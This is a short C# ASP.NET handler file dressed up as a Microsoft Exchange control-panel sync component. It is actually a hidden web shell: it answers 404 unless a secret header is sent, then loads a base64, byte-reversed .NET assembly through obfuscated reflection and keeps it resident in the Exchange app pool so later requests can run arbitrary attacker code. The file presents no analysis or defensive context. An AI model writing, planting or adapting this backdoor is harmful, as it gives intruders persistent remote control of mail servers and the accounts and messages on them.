<%@ WebHandler Language="C#" Class="Microsoft.Exchange.Management.ControlPanel.Sync.OwaSyncHandler" %>

using System;
using System.Reflection;
using System.Web;

namespace Microsoft.Exchange.Management.ControlPanel.Sync
{
    public class OwaSyncHandler : IHttpHandler
    {
        private const string Slot = "__EcpSyncProvider";

        public void ProcessRequest(HttpContext context)
        {
            HttpRequest rq = context.Request;
            if (rq.Headers["X-EcpSync"] != "1")
            {
                context.Response.StatusCode = 404;
                return;
            }

            byte[] raw = Convert.FromBase64String(rq.Form["d"]);
            Array.Reverse(raw);

            object provider = AppDomain.CurrentDomain.GetData(Slot);
            if (provider == null)
            {
                // first call installs provider, it lives for the lifetime of MSExchangeECPAppPool
                Assembly a = (Assembly)typeof(Assembly).GetMethod("\u004c\u006f\u0061\u0064", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { raw });
                AppDomain.CurrentDomain.\u0053etData(Slot, a.CreateInstance(rq.Form["t"] ?? "P"));
                context.Response.Write("{\"Status\":0}");
                return;
            }

            provider.Equals(context);
            provider.Equals(raw);
            context.Response.Write("{\"Status\":0,\"Data\":\"" + provider.ToString() + "\"}");
        }

        public bool IsReusable
        {
            get { return true; }
        }
    }
}
